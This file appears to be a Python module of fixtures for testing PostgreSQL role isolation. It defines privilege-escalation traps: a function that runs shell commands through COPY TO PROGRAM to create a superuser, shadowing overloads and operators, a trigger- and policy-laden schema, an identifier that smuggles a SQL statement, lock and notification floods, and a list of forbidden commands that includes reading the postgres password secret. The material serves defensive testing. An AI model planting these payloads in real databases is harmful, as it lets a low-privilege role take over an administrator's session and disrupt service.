"""What a hostile role leaves in its database, in the hope that superuser evaluates it one day."""

# Takes whatever rights the session has: a role, a file where backups are, and the live socket.
CANARY = r"""
CREATE FUNCTION public.canary() RETURNS boolean LANGUAGE plpgsql
    SET search_path = pg_catalog AS $canary$
BEGIN
    BEGIN
        EXECUTE 'RESET SESSION AUTHORIZATION';
        EXECUTE 'RESET ROLE';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        EXECUTE 'COPY (SELECT 1) TO PROGRAM $$touch /tmp/canary /backups/canary;'
            || 'timeout 2 psql --host=/var/run/postgresql --username=postgres'
            || ' --command=''''CREATE ROLE canary SUPERUSER''''; true$$';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        EXECUTE 'CREATE ROLE canary SUPERUSER';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN true;
END $canary$;
-- For where PostgreSQL asks for a function that only computes.
CREATE FUNCTION public.calm(anyelement) RETURNS boolean LANGUAGE plpgsql IMMUTABLE
    AS 'BEGIN PERFORM public.canary(); RETURN true; END';
CREATE FUNCTION public.calm_text(text) RETURNS text LANGUAGE plpgsql IMMUTABLE
    AS 'BEGIN PERFORM public.canary(); RETURN $1; END';
"""

# Better matches than PostgreSQL's own for what programs might call without a schema's name.
OVERLOADS = "".join(
    f"CREATE FUNCTION public.{name}({arguments}) RETURNS {returns} LANGUAGE plpgsql"
    f" AS 'BEGIN PERFORM public.canary(); RETURN NULL; END';\n"
    for name, arguments, returns in (
        ("to_json", "bigint", "json"),
        ("to_json", "text", "json"),
        ("to_json", "varchar", "json"),
        ("format", "text, name", "text"),
        ("format", "text, name, name", "text"),
        ("format", "text, regclass", "text"),
        ("format", "text, oid", "text"),
        ("format", "text, regprocedure", "text"),
        ("quote_ident", "name", "text"),
        ("count", "bigint", "bigint"),
        ("left", "text, integer", "text"),
        ("pg_database_size", "name", "bigint"),
        ("regexp_replace", "text, text, text, text", "text"),
        ("bt_index_check", "oid, boolean", "text"),
        ("bt_index_check", "oid, boolean, boolean", "text"),
        ("verify_heapam", "oid, boolean, boolean, text, bigint, bigint", "text"),
    )
) + "".join(
    f"CREATE FUNCTION public.f_{number}({left}, {right}) RETURNS boolean LANGUAGE plpgsql"
    f" AS 'BEGIN PERFORM public.canary(); RETURN true; END';\n"
    f"CREATE OPERATOR public.{operator} (FUNCTION = public.f_{number},"
    f" LEFTARG = {left}, RIGHTARG = {right});\n"
    for number, (operator, left, right) in enumerate(
        (
            ("=", "name", "text"),
            ("<>", "name", "text"),
            ("=", "oid", "regrole"),
            ("<>", "oid", "regrole"),
            ("<>", "text", "text"),
            (">=", "pg_lsn", "pg_lsn"),
            (">", "interval", "interval"),
            ("||", "text", "text"),
        )
    )
)

# Of every kind that a schema can hold, under names that are none.
OBJECTS = r"""
CREATE SCHEMA "od""d";
CREATE TABLE "od""d"."x
SELECT public.canary(); --" (id serial PRIMARY KEY, at int DEFAULT 1);
CREATE TABLE public.checked (
    id int GENERATED ALWAYS AS IDENTITY,
    of text DEFAULT 'x' CHECK (public.canary()),
    twice text GENERATED ALWAYS AS (public.calm_text(of)) STORED
);
INSERT INTO public.checked DEFAULT VALUES;
CREATE INDEX ON public.checked (public.calm_text(of));
CREATE INDEX ON public.checked (id) WHERE public.calm(id);
CREATE TABLE public.parted (id int) PARTITION BY LIST (public.calm_text(id::text));
CREATE TABLE public.part PARTITION OF public.parted DEFAULT;
CREATE TABLE public.policed (id int);
ALTER TABLE public.policed ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.policed FORCE ROW LEVEL SECURITY;
CREATE POLICY canary ON public.policed USING (public.canary());
INSERT INTO public.parted VALUES (1);
CREATE FUNCTION public.on_row() RETURNS trigger LANGUAGE plpgsql
    AS 'BEGIN PERFORM public.canary(); RETURN NEW; END';
CREATE TRIGGER canary BEFORE INSERT OR UPDATE ON public.checked
    FOR EACH ROW EXECUTE FUNCTION public.on_row();
CREATE FUNCTION public.on_event() RETURNS event_trigger LANGUAGE plpgsql
    AS 'BEGIN PERFORM public.canary(); END';
CREATE VIEW public.pg_stat_statements AS SELECT 'x'::text AS query, 1.0::float AS mean_exec_time,
    1.0::float AS total_exec_time WHERE public.canary();
CREATE MATERIALIZED VIEW public.matter AS SELECT 1 AS id WHERE public.canary();
CREATE TYPE public.mood AS ENUM ('good');
CREATE DOMAIN public.whole AS int CHECK (public.calm(VALUE));
CREATE TYPE public.pair AS (a int, b int);
CREATE TABLE public.typed (one public.whole, two public.pair, three public.mood);
INSERT INTO public.typed VALUES (1, (1, 2), 'good');
CREATE INDEX ON public.typed (two);
CREATE TYPE public.regclass AS (a int);
CREATE CAST (public.mood AS public.pair) WITH INOUT;
CREATE PROCEDURE public.proceed() LANGUAGE sql AS 'SELECT public.canary()';
CREATE AGGREGATE public.total(int) (SFUNC = int4pl, STYPE = int);
CREATE STATISTICS public.guess ON (public.calm(id)), id FROM public.checked;
CREATE PUBLICATION news;
SELECT lo_create(4711);
CREATE FUNCTION public.as_maker(statement text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
    AS 'BEGIN EXECUTE statement; END';
"""

# For every session that connects to the database.
SETTINGS = """
ALTER DATABASE berth SET search_path = public, pg_catalog;
ALTER DATABASE berth SET role = '{role}';
ALTER DATABASE berth SET session_authorization = '{role}';
ALTER DATABASE berth SET standard_conforming_strings = off;
ALTER ROLE {role} SET search_path = public, pg_catalog;
"""
NUISANCES = """
ALTER DATABASE berth SET default_transaction_read_only = on;
ALTER DATABASE berth SET statement_timeout = '1ms';
ALTER ROLE {role} IN DATABASE berth SET statement_timeout = '1ms';
"""

# In place of the table that says which migrations there were.
FALSE_VERSION = """
ALTER TABLE public.alembic_version RENAME TO true_version;
CREATE VIEW public.alembic_version AS
    SELECT version_num FROM public.true_version WHERE public.canary();
GRANT SELECT ON public.alembic_version TO PUBLIC;
"""

# Sessions that stay: locks that somebody may wait for, and a flood of notifications.
SIEGE = (
    "SELECT pg_advisory_lock(n) FROM generate_series(1, 1000) AS n; SELECT pg_sleep(600)",
    "BEGIN; LOCK TABLE items IN ACCESS SHARE MODE; SELECT pg_sleep(600)",
    "LISTEN flood; SELECT pg_sleep(600)",
    "SELECT pg_notify('flood', repeat('x', 7000) || n) FROM generate_series(1, 10000) AS n",
)

# What nobody but superuser may do.
FORBIDDEN = (
    "COPY (SELECT 1) TO PROGRAM 'touch /tmp/canary'",
    "COPY (SELECT 1) TO '/tmp/canary'",
    "SELECT pg_read_file('/run/secrets/postgres-password')",
    "CREATE EXTENSION pg_stat_statements",
    "CREATE EXTENSION file_fdw",
    "CREATE LANGUAGE c",
    "CREATE EVENT TRIGGER canary ON ddl_command_end EXECUTE FUNCTION on_event()",
    "ALTER ROLE CURRENT_USER SUPERUSER",
    "ALTER ROLE CURRENT_USER BYPASSRLS",
    "ALTER ROLE postgres PASSWORD 'guessed'",
    "ALTER ROLE metrics PASSWORD 'guessed'",
    "ALTER ROLE berth_clone LOGIN",
    "GRANT berth TO metrics",
    "CREATE ROLE canary",
    "CREATE DATABASE canary",
    "GRANT pg_read_server_files TO CURRENT_USER",
    "GRANT pg_monitor TO CURRENT_USER",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "ALTER SYSTEM SET archive_command = 'touch /tmp/canary'",
    "ALTER DATABASE postgres SET search_path = public",
    "ALTER FUNCTION pg_catalog.now() RENAME TO then",
    "UPDATE pg_catalog.pg_authid SET rolsuper = true",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres'",
)

# What the app's role cannot do, and the owner can.
OWNERS = (
    "CREATE TABLE public.mine (id int)",
    "CREATE TEMP TABLE mine (id int)",
    "CREATE SCHEMA mine",
    "CREATE FUNCTION public.mine() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    "CREATE VIEW public.mine AS SELECT 1",
    "CREATE EXTENSION pgcrypto",
    "ALTER TABLE items ADD COLUMN mine int",
    "CREATE INDEX ON items (name)",
    "DROP TABLE items",
    "TRUNCATE items",
    "ALTER TABLE alembic_version RENAME TO mine",
    "ALTER DATABASE berth SET search_path = public",
    "ALTER DEFAULT PRIVILEGES FOR ROLE berth_owner GRANT ALL ON TABLES TO PUBLIC",
    "CREATE PUBLICATION mine",
)
